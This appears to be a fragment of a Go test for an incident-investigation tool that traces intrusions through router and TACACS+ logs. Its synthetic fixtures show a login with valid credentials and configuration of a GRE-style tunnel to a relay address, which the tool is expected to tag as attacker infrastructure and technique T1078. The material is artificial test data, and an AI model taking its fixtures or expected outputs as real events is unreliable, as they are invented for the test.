		"net/rtr1.log": "2026-03-16T08:00:00+00:00 rtr1 %SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: netops] [Source: 203.0.113.9] [localport: 22] at 08:00:00 UTC Mon Mar 16 2026\n"}
	for name, x := range map[string]struct {
		files map[string]string
		said  string
		want  []string
	}{
		"TACACS+": {accounting, "", []string{"net/rtr1.log:1", "aaa/tac_plus.acct:1", "aaa/tac_plus.acct:2"}},
		"TACACS+ of a server that has a name": {accounting, "sources:\n  - path: aaa/tac_plus.acct\n    host: aaa1.example.com\n",
			[]string{"net/rtr1.log:1", "aaa/tac_plus.acct:1", "aaa/tac_plus.acct:2"}},
		"the device's own log": {map[string]string{"net/rtr1.log": "2026-03-16T08:00:00+00:00 rtr1 %SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: netops] [Source: 203.0.113.9] [localport: 22] at 08:00:00 UTC Mon Mar 16 2026\n" +
			"2026-03-16T08:01:00+00:00 rtr1 %PARSER-5-CFGLOG_LOGGEDCMD: User:netops  logged command:interface Tunnel61\n2026-03-16T08:01:10+00:00 rtr1 %PARSER-5-CFGLOG_LOGGEDCMD: User:netops  logged command:tunnel destination 198.51.100.77\n"},
			"", []string{"net/rtr1.log:1", "net/rtr1.log:2", "net/rtr1.log:3"}},
	} {
		t.Run(name, func(t *testing.T) {
			for _, starts := range [][]string{{"net/rtr1.log:1"}, nil} {
				out := followSaid(t, lay(t, x.files), x.said, starts...)
				checkTouched(t, out, x.want, nil)
				roles := map[string]string{}
				for _, p := range out.Infrastructure {
					roles[p.Value] = p.Kind + " " + p.Role
				}
				if roles["203.0.113.9"] != "address first-hop" || roles["198.51.100.77"] != "address relay" || roles["rtr1"] != "device relay" || out.Access.Technique != "T1078" {
					t.Errorf("from %v: established %t (%s), places %v, way in %+v", starts, out.Established, out.Why, roles, out.Access)
				}
			}
		})
	}
}
